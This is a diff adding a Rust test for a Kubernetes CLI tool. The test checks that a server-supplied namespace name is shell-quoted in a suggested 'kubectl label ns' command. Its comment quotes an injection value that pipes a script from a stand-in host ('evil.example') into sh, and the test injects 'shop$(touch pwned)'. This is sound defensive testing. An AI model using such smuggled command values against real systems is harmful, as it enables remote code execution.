@@ -2191,3 +2191,46 @@ fn the_progress_bar_leaves_the_terminal_to_a_credential_plugin_while_it_runs() {
     // …but not while the plugin had the terminal.
     assert!(!while_running.load(Ordering::SeqCst));
 }
+
+/// The `next:` step is a `kubectl label ns NAME …` to copy and run, and the
+/// name is the server's: a server that does not check names (or one in
+/// the middle) could send `shop$(curl evil.example|sh)`, which ran as typed.
+/// The name is written as one shell word.
+#[test]
+fn the_suggested_kubectl_label_quotes_the_namespace_for_the_shell() {
+    let hostile = "shop$(touch pwned)";
+    let rename = move |mut items: Vec<Value>, field: &str| {
+        for item in &mut items {
+            if item["metadata"][field] == "shop" {
+                item["metadata"][field] = Value::String(hostile.into());
+                // Unlabelled, so that the next step is a `kubectl label`.
+                if let Some(meta) = item["metadata"].as_object_mut() {
+                    meta.remove("labels");
+                }
+            }
+        }
+        items
+    };
+    let server = ReplayServer::start(Arc::new(move |path: &str| match path.split('?').next() {
+        Some("/api/v1/namespaces") => Reply::ok(list(
+            "Namespace",
+            "v1",
+            rename(items("namespaces.json"), "name"),
+        )),
+        Some("/api/v1/pods") => {
+            let mut pods = items("pods-page1.json");
+            pods.extend(items("pods-page2.json"));
+            Reply::ok(list("Pod", "v1", rename(pods, "namespace")))
+        }
+        _ => recorded(path),
+    }));
+    let o = run(&server, &[]);
+    assert_eq!(o.code, 1, "{}", o.err);
+    assert!(
+        o.out
+            .contains("(kubectl label ns 'shop$(touch pwned)' rootlock.dev/"),
+        "{}",
+        o.out
+    );
+    assert!(!o.out.contains("label ns shop$("), "{}", o.out);
+}
